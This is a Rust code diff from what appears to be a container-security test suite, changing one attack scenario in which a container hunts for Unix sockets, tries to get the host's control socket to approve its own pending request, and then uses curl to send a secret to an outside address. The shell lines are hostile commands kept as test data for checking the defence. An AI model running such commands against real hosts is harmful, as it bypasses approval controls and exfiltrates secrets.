@@ -1,6 +1,6 @@
 //! Somebody approves what a container asks for: with that it is to get what was shown, and no more.
 
-use crate::row::{APPROVED, Counts, Meanwhile, ROW, Row, Trace};
+use crate::row::{APPROVED, Control, Counts, Meanwhile, ROW, Row, Trace};
 
 pub(crate) const ROWS: &[Row] = &[
     Row {
@@ -69,22 +69,34 @@ pub(crate) const ROWS: &[Row] = &[
     },
     Row {
         name: "an_approval_of_the_containers_own",
-        attack: "every Unix socket that the container can find, and where the host has the gateway's, asked to approve; then the secret is sent",
+        attack: "a name is asked for, and then every Unix socket that the container can find, and where the host has the gateway's, \
+                 is told in the control protocol's words to approve what is pending; then the secret is sent to that name",
         defence: "the control socket is in a directory of the host's that no container has, for root's callers alone",
         script: |scene| {
             let (address, secret) = (scene.target_in_urls(), &scene.secret);
             format!(
-                "for socket in $(find / -path /proc -prune -o -type s -print 2> /dev/null) /run/boundary/*/control /proc/*/root/run/boundary/*/control; do
-                   curl -s -m 2 --unix-socket $socket http://localhost/
-                 done
-                 curl -g -s -m 5 --resolve {APPROVED}:80:{address} http://{APPROVED}/{secret}
-                 attacker send tcp {address}:80 {secret}"
+                "curl -s -m 5 -o /dev/null http://{APPROVED}/
+                 touch /tmp/ready; until [ -e /tmp/done ]; do sleep 0.1; done
+                 attacker approve $(find / -path /proc -prune -o -type s -print 2> /dev/null) \\
+                   /run/boundary/*/control /proc/*/root/run/boundary/*/control
+                 curl -g -s -m 5 --resolve {APPROVED}:80:{address} http://{APPROVED}/{secret}"
             )
         },
+        meanwhile: Meanwhile::TheHost(":"),
+        control: Control::Filtered("", HANDED_IN),
         recorded: Some(Trace::Secret),
         ..ROW
     },
 ];
+
+/// Root on the host gives the container the socket of its own gateway, in root's own name.
+const HANDED_IN: Meanwhile = Meanwhile::TheHost(
+    "id=$(boundary-shim policy pending --json $1 | grep -o -m 1 '\"container\":\"[0-9a-f]*' | cut -d '\"' -f 4)
+     state=$(echo /run/boundary/${id:?nothing is pending}-*)
+     root=/proc/$(grep -o '\"init\":{\"pid\":[0-9]*' $state/record.json | grep -o '[0-9]*$')/root
+     timeout 60 attacker hand-in $state/control $root/tmp/gateway < /dev/null > /dev/null 2>&1 &
+     timeout 20 sh -c \"until [ -S $root/tmp/gateway ]; do sleep 0.1; done\"",
+);
 
 /// Waits until the name is approved.
 fn until_approved() -> String {
